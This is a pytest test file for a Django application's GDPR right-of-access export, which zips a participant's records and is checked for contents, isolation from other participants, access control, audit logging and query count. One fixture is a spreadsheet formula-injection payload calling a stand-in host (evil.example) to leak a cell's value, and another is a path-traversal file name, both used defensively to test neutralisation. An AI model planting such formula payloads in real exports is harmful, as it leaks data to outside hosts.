"""Right of access (RGPD art. 15): the ZIP of everything held about one participant."""

import csv
import io
import json
import zipfile
from datetime import time, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from entreprises.models import ActionCollective, Inscription, TypeAction
from formation.factories import BesoinFormationFactory, SessionFormationFactory
from formation.models import PositionnementFormation
from offres import services as offres_services
from offres.factories import OffreFactory
from offres.models import StatutOffre
from participants import acces, services
from participants.enums import DecisionCommissionType, TypeEtape
from participants.factories import ParticipantFactory
from participants.models import DecisionCommission, Entretien, Etape, HistoriqueReferent
from plie.models import JournalAcces
from plie.roles import Role

TODAY = timezone.localdate()
FORMULE = '=HYPERLINK("http://evil.example/?x="&A1;"cliquez")'


@pytest.fixture
def referent(make_user):
    return make_user(Role.REFERENT, first_name="Nadia", last_name="Référente")


@pytest.fixture
def participant(referent, make_user):
    """A participant with one row of every kind of data, one of them formula-like."""
    p = ParticipantFactory(
        entre=True,
        referent=referent,
        nom="Lemoine",
        prenom="Aurélie",
        identifiant="P-2024-0042",
        sante_handicap=True,
        sous_main_justice=True,
        notice_information_remise_le=TODAY - timedelta(days=200),
    )
    HistoriqueReferent.objects.create(participant=p, referent=referent, du=p.date_candidature, attribue_par=referent)
    coordinatrice = make_user(Role.COORDINATRICE, first_name="Claire", last_name="Coordo")
    services.commission_decider(
        participant=ParticipantFactory(referent=referent),  # another person: must not appear
        decision=DecisionCommissionType.ADMISSION,
        date_decision=TODAY,
        motif="Autre dossier",
        par=coordinatrice,
    )
    DecisionCommission.objects.create(
        participant=p,
        decision=DecisionCommissionType.ADMISSION,
        date_decision=p.date_entree,
        motif="Projet clair, freins levables",
        eligible_au_calcul=True,
        decide_par=coordinatrice,
    )
    Entretien.objects.create(participant=p, date=TODAY, notes=FORMULE, prochaines_etapes="CV", realise_par=referent)
    Etape.objects.create(
        participant=p, type=TypeEtape.choices[0][0], intitule="Atelier numérique", debut=TODAY, cree_par=referent
    )
    offre = OffreFactory(statut=StatutOffre.COLLECTEE, intitule="Agent de propreté")
    offres_services.offre_qualifier(offre=offre, par=make_user(Role.CHARGE_MISSION), diffuser=False)
    offres_services.positionnements_creer(offre=offre, participants=[p], par=referent, note="Bon profil")
    besoin = BesoinFormationFactory(participant=p, intitule="CACES R489")
    PositionnementFormation.objects.create(
        session=SessionFormationFactory(intitule="Session CACES"), participant=p, besoin=besoin, propose_par=referent
    )
    action = ActionCollective.objects.create(
        type=TypeAction.ATELIER,
        titre="Atelier CV",
        date=TODAY,
        heure_debut=time(9),
        heure_fin=time(12),
        lieu="Maison de l'emploi",
        animateur=referent,
        capacite=10,
        cree_par=referent,
    )
    Inscription.objects.create(action=action, participant=p, inscrit_par=referent)
    services.journaliser_lecture_sensible(utilisateur=coordinatrice, participant=p)
    return p


def _telecharger(client, participant):
    return client.get(reverse("participants:droit_acces", args=[participant.pk]))


def _archive(response):
    assert response.status_code == 200, response
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def _csv(archive, nom):
    texte = archive.read(f"csv/{nom}.csv").decode("utf-8")
    assert texte.startswith("\ufeff")
    return list(csv.reader(io.StringIO(texte[1:]), delimiter=";"))


# --- Contents ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_archive_holds_every_kind_of_data_of_the_participant(client, referent, participant, settings):
    settings.PLIE_DPO_CONTACT = "dpo@plie-test.fr"
    client.force_login(referent)
    archive = _archive(_telecharger(client, participant))
    noms = set(archive.namelist())
    attendus = {"lisez-moi.txt", "donnees.html", "donnees.json"} | {
        f"csv/{nom}.csv"
        for nom in (
            "identite",
            "donnees_fse",
            "diagnostic",
            "entretiens",
            "etapes_parcours",
            "situations",
            "positionnements_offres",
            "suivi_positionnements_offres",
            "decisions_commission",
            "besoins_formation",
            "inscriptions_formations",
            "inscriptions_actions",
            "historique_referents",
            "sorties_detectees",
            "sortie",
            "acces_dossier",
        )
    }
    assert noms == attendus

    identite = dict(_csv(archive, "identite"))
    assert identite["Nom"] == "Lemoine" and identite["Prénom"] == "Aurélie"
    assert identite["Identifiant"] == "P-2024-0042"
    assert identite["Problèmes de santé ou handicap"] == "Oui" and identite["Sous mandat de justice"] == "Oui"
    assert identite["Date de naissance"] == f"{participant.date_naissance:%d/%m/%Y}"
    assert identite["Notice d'information remise le"] == f"{participant.notice_information_remise_le:%d/%m/%Y}"
    assert identite["Référent unique"] == "Nadia Référente"

    entretiens = _csv(archive, "entretiens")
    assert entretiens[0][:3] == ["Date", "Type", "Notes"]
    assert len(entretiens) == 2 and entretiens[1][4] == "Nadia Référente"
    assert _csv(archive, "etapes_parcours")[1][1] == "Atelier numérique"
    assert _csv(archive, "positionnements_offres")[1][:3] == [
        "Agent de propreté",
        participant.positionnements.get().offre.nom_employeur,
        "Proposé",
    ]
    assert _csv(archive, "suivi_positionnements_offres")[1][-1] == "Bon profil"
    decisions = _csv(archive, "decisions_commission")
    assert len(decisions) == 2 and decisions[1][2] == "Projet clair, freins levables"
    assert decisions[1][-1] == "Claire Coordo"
    assert _csv(archive, "besoins_formation")[1][0] == "CACES R489"
    assert _csv(archive, "inscriptions_formations")[1][0] == "Session CACES"
    assert _csv(archive, "inscriptions_actions")[1][:1] == ["Atelier CV"]
    assert _csv(archive, "historique_referents")[1][0] == "Nadia Référente"
    assert _csv(archive, "sortie") == [["Rubrique", "Valeur"]]  # not exited: headers only

    # Who opened the file, by name and date: the coordinatrice's read and this very export.
    acces_dossier = _csv(archive, "acces_dossier")
    assert [ligne[1:3] for ligne in acces_dossier[1:]] == [
        ["Claire Coordo", "Lecture de données sensibles"],
        ["Nadia Référente", "Export de données"],
    ]

    donnees = json.loads(archive.read("donnees.json"))
    assert donnees["identifiant"] == "P-2024-0042"
    assert set(donnees["donnees"]) == {nom[4:-4] for nom in attendus if nom.startswith("csv/")}
    assert donnees["donnees"]["entretiens"]["lignes"][0]["Notes"] == FORMULE  # raw in JSON
    assert donnees["donnees"]["entretiens"]["lignes"][0]["Date"] == TODAY.isoformat()
    identite_json = {ligne["Rubrique"]: ligne["Valeur"] for ligne in donnees["donnees"]["identite"]["lignes"]}
    assert identite_json["Sous mandat de justice"] is True

    lisez_moi = archive.read("lisez-moi.txt").decode()
    assert "article 15" in lisez_moi and "P-2024-0042" in lisez_moi
    assert "dpo@plie-test.fr" in lisez_moi and settings.PLIE_NOM in lisez_moi and "CNIL" in lisez_moi
    assert "csv/entretiens.csv : Entretiens (1 ligne)" in lisez_moi
    assert "conservé" in lisez_moi  # the retention periods

    html = archive.read("donnees.html").decode()
    assert "Aurélie" in html and "Projet clair, freins levables" in html and "Qui traite vos données ?" in html
    assert "=HYPERLINK(&quot;http://evil.example" in html  # shown escaped, never as markup


@pytest.mark.django_db
def test_no_data_of_another_participant_in_the_archive(client, referent, participant):
    autre = ParticipantFactory(entre=True, referent=referent, nom="Zanetti")
    Entretien.objects.create(participant=autre, date=TODAY, notes="Confidentiel Zanetti", realise_par=referent)
    client.force_login(referent)
    archive = _archive(_telecharger(client, participant))
    tout = b"".join(archive.read(nom) for nom in archive.namelist()).decode("utf-8")
    assert "Zanetti" not in tout and "Autre dossier" not in tout


@pytest.mark.django_db
def test_formula_like_cells_are_neutralised_in_the_csv(client, referent, participant):
    client.force_login(referent)
    entretiens = _csv(_archive(_telecharger(client, participant)), "entretiens")
    assert entretiens[1][2] == "'" + FORMULE


@pytest.mark.django_db
def test_the_file_name_carries_the_identifiant_not_the_name(client, referent, participant):
    client.force_login(referent)
    response = _telecharger(client, participant)
    disposition = response["Content-Disposition"]
    assert f"droit-d-acces-P-2024-0042-{TODAY:%Y-%m-%d}.zip" in disposition
    assert "Lemoine" not in disposition and "Aur" not in disposition
    assert response["Content-Type"] == "application/zip" and "no-store" in response["Cache-Control"]


@pytest.mark.django_db
def test_an_identifiant_with_odd_characters_gives_a_safe_file_name():
    participant = ParticipantFactory.build(identifiant="../a b/c;d")
    assert acces.nom_archive(participant, TODAY) == f"droit-d-acces-a_b_c_d-{TODAY:%Y-%m-%d}.zip"


# --- Who may download it, and the trail ----------------------------------------------------------


@pytest.mark.django_db
def test_the_download_is_logged_without_personal_data(client, referent, participant):
    client.force_login(referent)
    _telecharger(client, participant)
    log = JournalAcces.objects.get(action=JournalAcces.Action.EXPORT)
    assert (log.utilisateur, log.objet_type, log.objet_id) == (referent, "participant", str(participant.pk))
    assert "Lemoine" not in log.detail and "Aurélie" not in log.detail and "P-2024" not in log.detail
    assert "art. 15" in log.detail


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.COORDINATRICE, Role.ADMINISTRATEUR])
def test_coordinatrice_and_administrateur_may_download(client_as, participant, role):
    archive = _archive(_telecharger(client_as(role), participant))
    assert "csv/identite.csv" in archive.namelist()
    assert JournalAcces.objects.filter(action=JournalAcces.Action.EXPORT, objet_id=str(participant.pk)).count() == 1


@pytest.mark.django_db
def test_another_referent_gets_404_and_nothing(client, make_user, participant):
    client.force_login(make_user(Role.REFERENT))
    response = _telecharger(client, participant)
    assert response.status_code == 404
    assert b"Lemoine" not in response.content
    assert not JournalAcces.objects.filter(action=JournalAcces.Action.EXPORT).exists()


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.AUDITEUR_FSE, Role.CHARGE_MISSION])
def test_roles_without_the_participants_files_get_403(client_as, participant, role):
    response = _telecharger(client_as(role), participant)
    assert response.status_code == 403 and b"Lemoine" not in response.content
    assert not JournalAcces.objects.filter(action=JournalAcces.Action.EXPORT).exists()


@pytest.mark.django_db
def test_anonymous_goes_to_login(client, participant):
    response = _telecharger(client, participant)
    assert response.status_code == 302 and "/connexion/" in response.url


@pytest.mark.django_db
def test_the_participant_page_offers_the_download(client, referent, participant):
    client.force_login(referent)
    page = client.get(reverse("participants:detail", args=[participant.pk])).content.decode()
    assert reverse("participants:droit_acces", args=[participant.pk]) in page


# --- Query count ------------------------------------------------------------------------------


def _requetes(client, participant):
    with CaptureQueriesContext(connection) as contexte:
        b"".join(_telecharger(client, participant).streaming_content)
    return len(contexte.captured_queries)


@pytest.mark.django_db
def test_the_query_count_does_not_depend_on_the_number_of_entretiens(client, referent, participant):
    client.force_login(referent)
    Entretien.objects.create(participant=participant, date=TODAY - timedelta(days=1), realise_par=referent)
    _requetes(client, participant)  # warm the session and content types
    deux = _requetes(client, participant)
    for jour in range(2, 20):
        Entretien.objects.create(participant=participant, date=TODAY - timedelta(days=jour), realise_par=referent)
    vingt = _requetes(client, participant)
    assert Entretien.objects.filter(participant=participant).count() == 20
    assert deux == vingt
